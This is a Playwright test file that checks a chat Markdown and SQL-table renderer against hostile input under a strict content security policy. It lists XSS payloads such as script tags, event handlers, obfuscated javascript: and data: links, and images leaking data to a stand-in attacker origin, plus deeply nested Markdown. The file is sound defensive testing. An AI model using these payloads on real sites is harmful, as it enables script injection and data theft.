/**
 * platform-embed/chat/render in Chromium against hostile input, on a page whose CSP is
 * `script-src 'self'; style-src 'self'` plus Trusted Types required with no policy
 * (e2e/pages/render.html): Markdown with scripts, event handlers, `javascript:` and `data:`
 * links, raw HTML blocks, images by URL and 10,000 nested lists, and a SQL result of HTML —
 * no request leaves the page, no script runs, nothing navigates, no CSP or Trusted Types
 * violation, and each render ends within a generous bound.
 */
import type { Page, Request } from '@playwright/test';
import { servers } from './support/servers.js';
import { expect, recordCspViolations, test } from './support/test.js';

declare global {
  interface Window {
    /** e2e/pages/render.js. */
    renderPage: { answer(text: string, pieces?: number): number; table(result: unknown): void };
    renderPageLoaded: boolean;
    /** Set by any hostile payload that manages to run. */
    __ran?: number;
  }
}

/** Every payload sets window.__ran if it runs, and points at the hostile origin if it loads. */
function hostileMarkdown(attacker: string): string {
  return [
    '# Answer',
    '<script>window.__ran = 1</script>',
    `<img src="${attacker}/img-block.png" onerror="window.__ran = 2">`,
    `Inline <img src=x onerror="window.__ran = 3"> and <svg onload="window.__ran = 4"></svg> and <iframe src="${attacker}/frame"></iframe>.`,
    '[a javascript: link](javascript:window.__ran=5) [JaVaScRiPt](JAVASCRIPT:window.__ran=6) [entity](&#106;avascript:window.__ran=7)',
    '[data](data:text/html,<script>parent.__ran=8</script>) <javascript:window.__ran=9> [relative](/e2e/elsewhere)',
    `![an image by URL](${attacker}/leak.png?rows=secret) ![data image](data:image/svg+xml,<svg onload="window.__ran=10">)`,
    `<div style="background:url(${attacker}/bg.png)">raw HTML block</div>`,
    '<a href="javascript:window.__ran=11" onclick="window.__ran=12">raw link</a>',
    '```html\n<script>window.__ran = 13</script>\n```',
    `| <img src="${attacker}/cell.png"> | [x](javascript:window.__ran=14) |\n|---|---|\n| a | b |`,
    `[ok](${attacker}/fine)`,
  ].join('\n\n');
}

/** Opens the page and records every request after it loaded, and the CSP violations. */
async function openRenderPage(page: Page): Promise<{ requests: string[] }> {
  await recordCspViolations(page);
  await page.goto(`${servers().hostOrigin}/e2e/render.html`);
  await page.waitForFunction(() => window.renderPageLoaded === true);
  const requests: string[] = [];
  page.on('request', (request: Request) => requests.push(request.url()));
  return { requests };
}

/** The checks after a render: nothing requested, run, navigated, refused, or made that must not be. */
async function expectNothingLeft(page: Page, requests: string[], url: string): Promise<void> {
  // Requests a render would start (images, frames) start within a frame or two: a few frames' grace.
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)));
  expect(requests).toEqual([]);
  expect(await page.evaluate(() => window.__ran)).toBeUndefined();
  expect(page.url()).toBe(url);
  expect(await page.evaluate(() => window.__cspViolations)).toEqual([]);
  const found = await page.evaluate(() => ({
    elements: Array.from(
      document.querySelectorAll('#answer script, #answer img, #answer iframe, #answer svg, #answer div div, #rows img'),
      (e) => e.tagName,
    ),
    hrefs: Array.from(document.querySelectorAll('a'), (a) => a.getAttribute('href')),
    handlers: Array.from(document.querySelectorAll('#answer *, #rows *')).flatMap((e) =>
      e.getAttributeNames().filter((name) => name.startsWith('on')),
    ),
  }));
  expect(found.elements).toEqual([]);
  for (const href of found.hrefs) expect(href).toMatch(/^(https?|mailto):/);
  expect(found.handlers).toEqual([]);
}

test.describe('platform-embed/chat/render against hostile input', () => {
  test('hostile Markdown: no request, no script, no navigation, no violation', async ({ page }) => {
    const attacker = servers().extraOrigins.hostile;
    const { requests } = await openRenderPage(page);
    const url = page.url();
    await page.evaluate((text) => window.renderPage.answer(text), hostileMarkdown(attacker));
    await expect(page.locator('#answer h1')).toHaveText('Answer');
    await expect(page.locator('#answer')).toContainText('<script>window.__ran = 1</script>');
    await expect(page.locator('#answer')).toContainText('an image by URL');
    await expect(page.locator('#answer a')).toHaveCount(1);
    await expect(page.locator('#answer a')).toHaveAttribute('rel', 'noopener noreferrer');
    await expectNothingLeft(page, requests, url);
  });

  test('hostile Markdown streamed in 200 updates: the same', async ({ page }) => {
    const { requests } = await openRenderPage(page);
    const url = page.url();
    await page.evaluate((text) => window.renderPage.answer(text, 200), hostileMarkdown(servers().extraOrigins.hostile));
    await expect(page.locator('#answer h1')).toHaveText('Answer');
    await expectNothingLeft(page, requests, url);
  });

  for (const [name, text] of [
    ['10,000 nested lists', `${'- '.repeat(10_000)}deep`],
    ['10,000 nested quotes', `${'> '.repeat(10_000)}deep`],
    ['10,000 nested emphases', `${'*a '.repeat(10_000)}${'b*'.repeat(10_000)}`],
    ['10,000 nested links', `${'['.repeat(10_000)}a${'](javascript:window.__ran=1)'.repeat(10_000)}`],
  ] as const) {
    test(`${name}: shown as text with a notice, within the bound`, async ({ page }) => {
      // A generous bound, for a loaded machine: the point is that it ends, not how fast.
      test.setTimeout(60_000);
      const { requests } = await openRenderPage(page);
      const url = page.url();
      await page.evaluate((markdown) => window.renderPage.answer(markdown), text);
      await expect(page.locator('#answer')).toContainText(
        name.includes('lists') || name.includes('quotes') ? 'Nested too deeply' : 'a',
        { timeout: 30_000 },
      );
      const depth = await page.evaluate(() => {
        let deepest = 0;
        for (const element of Array.from(document.querySelectorAll('#answer *'))) {
          let depthOf = 0;
          for (let node: Element | null = element; node && node.id !== 'answer'; node = node.parentElement) depthOf++;
          deepest = Math.max(deepest, depthOf);
        }
        return deepest;
      });
      expect(depth).toBeLessThanOrEqual(40);
      await expectNothingLeft(page, requests, url);
    });
  }

  test('a SQL result of HTML: text in cells, no request, no violation', async ({ page }) => {
    const attacker = servers().extraOrigins.hostile;
    const { requests } = await openRenderPage(page);
    const url = page.url();
    await page.evaluate(
      (img) =>
        window.renderPage.table({
          schema: [
            { name: `<img src="${img}" onerror="window.__ran=1">`, column_type: '<script>window.__ran=2</script>' },
          ],
          data: [[`<iframe src="${img}"></iframe>`], { [`<img src="${img}">`]: 1 }],
          totalRows: 5,
        }),
      `${attacker}/cell.png`,
    );
    await expect(page.locator('#rows caption')).toHaveText('2 of 5 rows');
    await expect(page.locator('#rows td').first()).toContainText('<iframe');
    await expectNothingLeft(page, requests, url);
  });
});
